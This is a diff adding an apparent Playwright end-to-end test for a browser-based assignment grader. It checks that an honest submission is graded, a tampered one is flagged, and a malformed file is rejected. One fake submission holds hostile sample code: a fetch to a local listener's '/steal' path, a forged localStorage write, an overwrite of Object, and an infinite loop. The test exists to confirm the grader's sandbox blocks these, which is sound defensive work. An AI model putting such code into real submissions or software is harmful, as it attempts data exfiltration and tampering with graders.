@@ -1,0 +1,159 @@
+/**
+ * The teacher's round trip: a link for two exercises, a student solves one on the assignment page
+ * and downloads a submission, and the teacher grades it on /teach/grade/ together with a tampered
+ * copy, a malicious one and a malformed file. The re-run is the grade; nothing leaves the browser.
+ */
+import { readFile, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import AxeBuilder from '@axe-core/playwright';
+import Papa from 'papaparse';
+import { expect, test } from './fixtures';
+import { downloadSubmission, exerciseSource, makeAssignment, solveAndCheck } from './teach-helpers';
+
+test.describe.configure({ timeout: 300_000 });
+
+test('assign → a student submits → the teacher grades it with a tampered, a malicious and a malformed file', async ({
+  browser,
+  baseURL,
+}) => {
+  // A foreign host the malicious code tries to reach: it must see nothing.
+  const seen: string[] = [];
+  const listener = createServer((request, response) => {
+    seen.push(request.url ?? '');
+    response.end('stolen');
+  });
+  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+  const foreign = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+  try {
+    const { link } = await makeAssignment(baseURL!, ['fetch-user', 'timeout-get-json']);
+
+    // The student, on a phone-sized screen.
+    const student = await browser.newPage({
+      viewport: { width: 390, height: 844 },
+      hasTouch: true,
+    });
+    await student.goto(link);
+    await student.getByRole('textbox', { name: 'Your name' }).fill('Ada Lovelace');
+    await solveAndCheck(
+      student,
+      'Fetch a user, and name every failure',
+      exerciseSource('fetch-user', 'solution'),
+    );
+    const { submission } = await downloadSubmission(student);
+    await student.close();
+
+    const dir = tmpdir();
+    const honest = join(dir, 'ada.json');
+    await writeFile(honest, JSON.stringify(submission));
+    // Same claimed results, different code: the starter, under another name.
+    const tampered = join(dir, 'mallory.json');
+    await writeFile(
+      tampered,
+      JSON.stringify({
+        ...submission,
+        student: { name: 'Mallory' },
+        exercises: submission.exercises.map((exercise) =>
+          exercise.id === 'fetch-user'
+            ? { ...exercise, code: exerciseSource('fetch-user', 'start') }
+            : exercise,
+        ),
+      }),
+    );
+    const evil = join(dir, 'eve.json');
+    await writeFile(
+      evil,
+      JSON.stringify({
+        ...submission,
+        student: { name: 'Eve' },
+        exercises: submission.exercises.map((exercise) =>
+          exercise.id === 'fetch-user'
+            ? {
+                ...exercise,
+                code: [
+                  'const g = globalThis as any;',
+                  "try { g.localStorage?.setItem('assignment-work:x', 'forged'); } catch {}",
+                  `fetch('${foreign}/steal').catch(() => {});`,
+                  'try { g.Object = { is: () => true }; } catch {}',
+                  'while (true) {}',
+                ].join('\n'),
+              }
+            : exercise,
+        ),
+      }),
+    );
+    const broken = join(dir, 'broken.json');
+    await writeFile(broken, '{ this is not json');
+
+    // The teacher.
+    // Its own context: axe needs one per page.
+    const page = await (await browser.newContext()).newPage();
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(request.url()));
+    await page.goto('/teach/');
+    await page.getByRole('link', { name: 'Grade submissions' }).click();
+    await page.getByRole('textbox', { name: 'Assignment link' }).fill(link);
+    await page.getByLabel('Submissions').setInputFiles([honest, tampered, evil, broken]);
+    await page.getByRole('button', { name: 'Grade', exact: true }).click();
+    await expect(page.getByRole('list', { name: 'Files not graded' })).toContainText('broken.json');
+    await expect(page.getByRole('main').getByRole('status')).toHaveText('6 of 6 exercises graded', {
+      timeout: 240_000,
+    });
+
+    const table = page.getByRole('table', { name: 'Grades' });
+    const row = (name: string) =>
+      table.getByRole('row').filter({ has: page.getByRole('rowheader', { name }) });
+    await expect(row('Ada Lovelace')).toContainText('7 / 7');
+    await expect(row('Ada Lovelace')).not.toContainText('claimed results differ');
+    await expect(row('Mallory')).toContainText('0 / 7');
+    await expect(row('Mallory')).toContainText('claimed results differ');
+    await expect(row('Eve')).toContainText('0 / 7');
+
+    // A cell shows the student's code beside its check results.
+    await row('Mallory')
+      .getByRole('button', { name: /Mallory, fetch-user/ })
+      .click();
+    await expect(page.getByRole('heading', { name: 'Mallory: fetch-user' })).toBeFocused();
+    await expect(page.getByLabel('Code of Mallory for fetch-user')).toHaveText(
+      exerciseSource('fetch-user', 'start'),
+    );
+    await expect(page.getByRole('list', { name: 'Check results' })).toContainText('failed');
+
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Download CSV' }).click();
+    const csv = Papa.parse<string[]>(await readFile(await (await download).path(), 'utf8')).data;
+    expect(csv[0]!.slice(0, 2)).toEqual(['Name', 'Student ID']);
+    const ada = csv.find((cells) => cells[0] === 'Ada Lovelace')!;
+    expect(ada).toContain('7');
+    expect(csv.filter((cells) => cells.length > 1)).toHaveLength(4);
+
+    // Nothing left the browser, and the foreign host saw nothing.
+    const origin = new URL(baseURL!).origin;
+    expect(
+      requests.filter(
+        (url) => !url.startsWith(origin) && !url.startsWith('blob:') && !url.startsWith('data:'),
+      ),
+    ).toEqual([]);
+    expect(seen).toEqual([]);
+    const results = await new AxeBuilder({ page }).analyze();
+    expect(
+      results.violations
+        .filter((v) => v.impact === 'serious' || v.impact === 'critical')
+        .map((v) => v.id),
+    ).toEqual([]);
+  } finally {
+    listener.close();
+  }
+});
+
+test('a missing link or no files gets a message saying what to do', async ({ page }) => {
+  await page.goto('/teach/grade/');
+  await page.getByRole('button', { name: 'Grade', exact: true }).click();
+  await expect(page.getByRole('alert')).toHaveText(/Paste the assignment link first/);
+  await expect(page.getByRole('textbox', { name: 'Assignment link' })).toBeFocused();
+  await page.getByRole('textbox', { name: 'Assignment link' }).fill('https://example.com/nope');
+  await page.getByRole('button', { name: 'Grade', exact: true }).click();
+  await expect(page.getByRole('alert')).toContainText('new link');
+});
